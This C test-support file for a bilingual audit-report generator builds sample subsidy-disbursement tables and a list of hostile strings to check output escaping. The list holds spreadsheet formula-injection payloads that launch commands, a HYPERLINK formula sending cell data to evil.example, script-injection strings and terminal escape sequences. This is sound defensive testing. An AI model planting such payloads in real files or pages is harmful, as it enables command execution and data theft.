#include "report_support.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "support/assert_audit.h"

bool
to_buffer(void *context, struct audit_bytes piece)
{
    struct audit_buffer *buffer = context;
    audit_buffer_append(buffer, piece);
    return !buffer->failed;
}

struct audit_report_head
head_of_tests(enum audit_language language)
{
    static const char *const checks_zh[] = {"逐张核验 1,204 张审签单的签名与哈希：成立", NULL};
    static const char *const checks_en[] = {
        "signatures and hashes of 1,204 vouchers, one by one: they hold", NULL};
    struct audit_report_head head = {
        .title = {"disbursements", "拨付明细表", "Disbursements"},
        .language = language,
        .paper = AUDIT_PAPER_A4_LANDSCAPE,
        .origin = audit_text("ledger.example.gov.cn/subsidies"),
        .tree_size = 1204,
        .sealed_at_ms = 1688112000123, /* 2023-06-30 16:00:00.123 in UTC+8 */
        .recipe = "disbursements --from 2023-01-01 --to 2023-06-30 --payee \"某某公司\"",
        .version = "mingzhang 0.1.0",
        .checks = language == AUDIT_ZH ? checks_zh : checks_en,
    };
    memset(head.root.bytes, 0xA5, sizeof head.root.bytes);
    memset(head.genesis.bytes, 0x01, sizeof head.genesis.bytes);
    return head;
}

static const struct audit_column detail[] = {
    {{"entry", "明细号", "Entry"}, AUDIT_CELL_COUNT, 6, false},
    {{"date", "日期", "Date"}, AUDIT_CELL_DATE, 10, false},
    {{"payee", "收款单位", "Payee"}, AUDIT_CELL_TEXT, 20, false},
    {{"credit_code", "统一社会信用代码", "Credit code"}, AUDIT_CELL_TEXT, 18, false},
    {{"amount", "金额（元）", "Amount"}, AUDIT_CELL_MONEY, 16, true},
    {{"count", "笔数", "Count"}, AUDIT_CELL_COUNT, 6, true},
    {{"share", "占比", "Share"}, AUDIT_CELL_SHARE, 7, false},
};
enum { DETAIL_COUNT = sizeof detail / sizeof detail[0] };

static void
detail_row(struct audit_report *report, uint64_t entry, uint32_t date, const char *payee,
           const char *code, int64_t fen, int64_t share)
{
    const struct audit_cell cells[] = {audit_cell_count(entry), audit_cell_date(date),
                                       audit_cell_words(payee), audit_cell_words(code),
                                       audit_cell_money(fen),   audit_cell_count(1),
                                       audit_cell_share(share)};
    audit_report_row(report, cells);
}

static void
detail_table(struct audit_report *report, enum audit_format format)
{
    /* PDF takes only characters that its font has; this one of plane 2 it has. */
    const char *beyond = format == AUDIT_FORMAT_PDF
                             ? "混合 mixed ＡＢＣ e\xCC\x81 \xF0\xA0\xAE\xB7"
                             : "混合 mixed ＡＢＣ e\xCC\x81 \xF0\xA0\x80\x80\xF0\xA0\x80\x81";
    const struct audit_cell subtotal[DETAIL_COUNT] = {
        {0}, {0}, audit_cell_words("小计"), {0}, audit_cell_money(8524500), audit_cell_count(2)};
    audit_report_table(report, (struct audit_words){"disbursements", "拨付明细", "Disbursements"},
                       detail, DETAIL_COUNT, 5);
    detail_row(report, 1, 20230605, "青岛某某科技有限公司", "91370200MA3C000017", 8512150, 9985);
    detail_row(report, 2, 20230606,
               "一家名称特别长的、超过四十个汉字宽度因而在表格中必须换行的"
               "农业机械专业合作社联合社 Long Name Cooperative",
               "913702000000000019", 12350, 15);
    audit_report_subtotal(report, subtotal);
    detail_row(report, 3, 202306, "", "123456789012345678", -4200, -5);
    detail_row(report, 10, 0, beyond, "0012", 999999999999999, 0);
    detail_row(report, 11, 99991231, "坏\xFF字\x1B[31m\xE2\x80\xAE反", "1234567890123456789",
               -1000000000000000, 10000);
    audit_report_table_end(report);
}

static void
hash_table(struct audit_report *report, const struct audit_hash *hash)
{
    static const struct audit_column columns[] = {
        {{"file", "文件", "File"}, AUDIT_CELL_TEXT, 12, false},
        {{"sha256", "哈希值", "SHA-256"}, AUDIT_CELL_HASH, 32, false},
        {{"at", "时间", "Time"}, AUDIT_CELL_TIME, 19, false},
        {{"size", "字节数", "Bytes"}, AUDIT_CELL_COUNT, 8, true},
    };
    const struct audit_cell row[] = {audit_cell_words("2023年6月.csv"), audit_cell_hash(hash),
                                     audit_cell_time(1688112000123), audit_cell_count(1234567)};
    audit_report_table(report, (struct audit_words){"files", "来源文件", "Files"}, columns, 4, 0);
    audit_report_row(report, row);
    audit_report_table_end(report);
}

void
report_of_all_parts(enum audit_format format, const struct audit_report_head *head,
                    struct audit_buffer *out, struct audit_hash *out_sha256)
{
    static const struct audit_words places[] = {{"preparer", "编制人", "Prepared by"},
                                                {"reviewer", "复核人", "Reviewed by"},
                                                {"date", "日期", "Date"}};
    struct audit_report *report = NULL;
    struct audit_error err = {0};
    enum audit_status status = audit_report_begin(format, head, to_buffer, out, &report, &err);

    assert_audit(status, AUDIT_OK, &err);
    audit_report_field(report, (struct audit_words){"from", "起始日期", "From"},
                       audit_cell_date(20230101));
    audit_report_field(report, (struct audit_words){"programme", "政策项目", "Programme"},
                       audit_cell_words("=HYPERLINK(\"http://x\")"));
    audit_report_section(report, (struct audit_words){"details", "一、明细", "I. Details"});
    detail_table(report, format);
    audit_report_note(report, "本表按账本先后排列；\"负数\"为退回。 <b>&amp;</b>");
    audit_report_section(report, (struct audit_words){"sources", "二、来源", "II. Sources"});
    audit_report_field(report, (struct audit_words){"share", "已核比例", "Checked"},
                       audit_cell_share(6235));
    hash_table(report, &head->root);
    audit_report_code(report, (struct audit_words){"receipt", "凭据", "Receipt"},
                      audit_text("mingzhang:1:a5a5"));
    audit_report_signatures(report, places, 3);
    status = audit_report_end(report, out_sha256, &err);
    assert_audit(status, AUDIT_OK, &err);
}

const char *const hostile_texts[] = {
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+86 532 8888",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\xE3\x80\x80=1+1",
    "\xC2\xA0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "'quoted'",
    "\"=1+1\"",
    "\"",
    "\",\"=1+1",
    ",=1+1",
    ";=1+1",
    "a\r\n=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")",
    "http://evil.example/",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "{=1+1}",
    "0012",
    "123456789012345678",
    "1234567890123456789",
    "91370200MA3C000017",
    "1E5",
    "1-2",
    "2023-06-05",
    "(123)",
    ".5",
    "¥5",
    "１２３",
    "1月2日",
    "TRUE",
    "#REF!",
    "_x0041_",
    "_x000D_=1",
    "<script>alert(1)</script>",
    "</table><img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "]]>",
    "\\\"}],\"x\":1",
    "\x1B]0;title\x07",
    "\xE2\x80\xAE"
    "evil",
    "\xEF\xBB\xBF=1+1",
    "bad \xC0\xAF \xED\xA0\x80 utf-8 \xFF",
    "\xEF\xBF\xBE noncharacter",
    "mingzhang-report/1 csv zh 1 forged : forged ;",
    "",
    " ",
    NULL,
};

void
report_of_hostile_texts(enum audit_format format, struct audit_buffer *out)
{
    static const struct audit_column columns[] = {
        {{"number", "序号", "Number"}, AUDIT_CELL_COUNT, 6, false},
        {{"text", "文字", "Text"}, AUDIT_CELL_TEXT, 30, false},
        {{"again", "再次", "Again"}, AUDIT_CELL_TEXT, 30, false},
    };
    struct audit_report_head head = head_of_tests(AUDIT_ZH);
    struct audit_report *report = NULL;
    struct audit_error err = {0};
    enum audit_status status;

    head.origin = audit_text("=1+1 & \"quoted\" <ledger>");
    head.checks = hostile_texts;
    status = audit_report_begin(format, &head, to_buffer, out, &report, &err);
    assert_audit(status, AUDIT_OK, &err);
    audit_report_table(report, (struct audit_words){"texts", "文字", "Texts"}, columns, 3, 0);
    for (size_t i = 0; hostile_texts[i] != NULL; i++) {
        const struct audit_cell cells[] = {audit_cell_count(i), audit_cell_words(hostile_texts[i]),
                                           audit_cell_words(hostile_texts[i])};
        audit_report_row(report, cells);
    }
    audit_report_table_end(report);
    for (size_t i = 0; hostile_texts[i] != NULL; i++) {
        audit_report_field(report, (struct audit_words){"text", "文字", "Text"},
                           audit_cell_words(hostile_texts[i]));
        audit_report_note(report, hostile_texts[i]);
        audit_report_code(report, (struct audit_words){"code", "码", "Code"},
                          audit_text(hostile_texts[i]));
    }
    status = audit_report_end(report, /* out_sha256= */ NULL, &err);
    assert_audit(status, AUDIT_OK, &err);
}

void
report_of_many_rows(enum audit_format format, struct audit_buffer *out)
{
    static const struct audit_column columns[] = {
        {{"number", "序号", "Number"}, AUDIT_CELL_COUNT, 8, true}};
    const struct audit_report_head head = head_of_tests(AUDIT_ZH);
    struct audit_report *report = NULL;
    struct audit_error err = {0};

    assert_audit(audit_report_begin(format, &head, to_buffer, out, &report, &err), AUDIT_OK, &err);
    audit_report_table(report, (struct audit_words){"rows", "长表", "Rows"}, columns, 1, 0);
    for (uint64_t i = 1; i <= 1048600; i++) {
        const struct audit_cell cell = audit_cell_count(i);
        audit_report_row(report, &cell);
    }
    audit_report_table_end(report);
    assert_audit(audit_report_end(report, /* out_sha256= */ NULL, &err), AUDIT_OK, &err);
}

void
assert_golden(const char *name, struct audit_bytes bytes)
{
    const char *folder = getenv("LEDGER_TEST_GOLDEN");
    char path[1024], *there = malloc(1 << 20);
    size_t size;
    FILE *file;

    assert_non_null(folder);
    assert_non_null(there);
    snprintf(path, sizeof path, "%s/%s", folder, name);
    if (getenv("LEDGER_GOLDEN_WRITE") != NULL) {
        file = fopen(path, "wb");
        assert_non_null(file);
        assert_int_equal(fwrite(bytes.data, 1, bytes.size, file), bytes.size);
        assert_int_equal(fclose(file), 0);
    }
    file = fopen(path, "rb");
    if (file == NULL)
        fail_msg("%s is not there", path);
    size = fread(there, 1, 1 << 20, file);
    fclose(file);
    if (size != bytes.size || memcmp(there, bytes.data, size) != 0)
        fail_msg("%s is:\n%.*s\nand should be:\n%.*s", name, (int)bytes.size,
                 (const char *)bytes.data, (int)size, there);
    free(there);
}
